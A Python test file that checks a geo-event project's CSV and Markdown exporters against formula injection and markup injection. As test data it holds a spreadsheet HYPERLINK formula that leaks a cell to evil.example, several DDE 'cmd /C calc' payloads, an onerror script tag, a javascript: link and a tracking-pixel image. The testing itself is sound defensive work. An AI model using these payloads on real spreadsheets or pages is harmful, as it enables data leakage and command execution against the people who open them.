"""Hostile text in CSV and Markdown outputs: formulas guarded, Markdown shown as typed."""

from __future__ import annotations

import csv
import re
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from geo.formats.exports import write_acled_csv, write_csv
from geo.formats.imports import read_acled
from geo.records import Event
from geo.safetext import WORD_JOINER, csv_cell, csv_text, markdown_literal

FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def hostile_event(text: str, *, lat: float = 34.56, lon: float = -38.28) -> Event:
    return Event(
        event_id="e1",
        event_type="frontline",
        sub_event_type="shelling",
        event_date=date(2016, 3, 24),
        date_precision=1,
        place=text,
        mention=text,
        lat=lat,
        lon=lon,
        geonameid=170575,
        country_code="SY",
        admin1=text,
        feature_code="PPL",
        geo_precision=1,
        quote=text,
        article_id="a1",
        title=text,
        published=date(2016, 3, 24),
        source=text,
        url="https://example.org/a",
        confidence=0.5,
    )


def csv_rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


# ---------------------------------------------------------------------------
# the cell rule


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_cells_get_a_leading_apostrophe(formula: str) -> None:
    assert csv_cell(formula) == "'" + formula


@pytest.mark.parametrize("number", ["-33.9", "+1", "-0.5e3", "42", "-.5"])
def test_plain_numbers_stay_numbers(number: str) -> None:
    assert csv_cell(number) == number


@pytest.mark.parametrize("text", ["Palmyra", "'quoted'", "", "a=b", "Kyiv - Lviv"])
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert csv_cell(text) == text


@given(st.text(max_size=30))
@settings(max_examples=300, deadline=None)
def test_guarded_cells_read_back_exactly(value: str) -> None:
    cell = csv_cell(value)
    assert csv_text(cell) == value
    assert not cell.startswith(("=", "+", "@", "\t", "\r")) or cell == value
    assert not cell.startswith("-") or cell == value  # only a plain number may start with "-"


@pytest.mark.parametrize("value", ["'=1", "''-5", "'-5"])
def test_values_that_already_start_with_an_apostrophe_survive_the_round_trip(value: str) -> None:
    assert csv_text(csv_cell(value)) == value


# ---------------------------------------------------------------------------
# the exports


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_export_guards_every_text_column_but_keeps_coordinates_numeric(formula: str, tmp_path: Path) -> None:
    write_csv([hostile_event(formula)], tmp_path / "e.csv")
    (row,) = csv_rows(tmp_path / "e.csv")
    for column in ("place", "mention", "admin1", "quote", "title", "source"):
        assert row[column] == "'" + formula, column
    assert row["longitude"] == "-38.28" and row["latitude"] == "34.56"


@pytest.mark.parametrize("formula", FORMULAS)
def test_acled_export_guards_formulas_and_still_round_trips(formula: str, tmp_path: Path) -> None:
    event = hostile_event(formula)
    write_acled_csv([event], tmp_path / "acled.csv")
    (row,) = csv_rows(tmp_path / "acled.csv")
    assert row["notes"] == row["location"] == row["source"] == "'" + formula
    assert row["longitude"] == "-38.28"
    assert read_acled(tmp_path / "acled.csv") == (event,)


# ---------------------------------------------------------------------------
# Markdown


@pytest.mark.parametrize(
    "text",
    [
        "![beacon](http://evil.example/pixel.png)",
        '<img src=x onerror="window.__pwned=1">',
        "[click](javascript:alert(1))",
        "$\\frac{1}{2}$ **bold** `code` # heading",
    ],
)
def test_markdown_literal_leaves_no_markup_active(text: str) -> None:
    from markdown_it import MarkdownIt

    rendered = MarkdownIt("commonmark").render(markdown_literal(text))
    assert "<img" not in rendered and "<a " not in rendered and "<strong>" not in rendered
    assert "<code>" not in rendered and "<h1>" not in rendered
    # What shows is the text as typed (HTML-escaped by the renderer).
    import html

    # What shows is the text as typed (HTML-escaped by the renderer; the word joiners
    # that stop GitHub's autolinks are invisible).
    shown = html.unescape(rendered.removeprefix("<p>").removesuffix("</p>\n"))
    assert shown.replace(WORD_JOINER, "") == text


@pytest.mark.parametrize(
    "text",
    [
        "see http://127.0.0.1:8000/x now",
        "(https://evil.example/p.png)",
        "HTTP://EVIL.EXAMPLE",
        "www.evil.example",
        "mail me@evil.example",
        "ftp://evil.example/f",
    ],
)
def test_markdown_literal_leaves_no_bare_address_for_github_autolinks(text: str) -> None:
    # GitHub Markdown links these after escapes are read: its patterns must not match.
    shown = markdown_literal(text).replace("\\", "")
    assert not re.search(r"(?i)(?:https?|ftp)://|www\.|[-.\w+]@", shown)
    assert shown.replace(WORD_JOINER, "") == text


def test_markdown_literal_keeps_letters_and_spaces() -> None:
    assert markdown_literal("Palmyra retaken 2016") == "Palmyra retaken 2016"
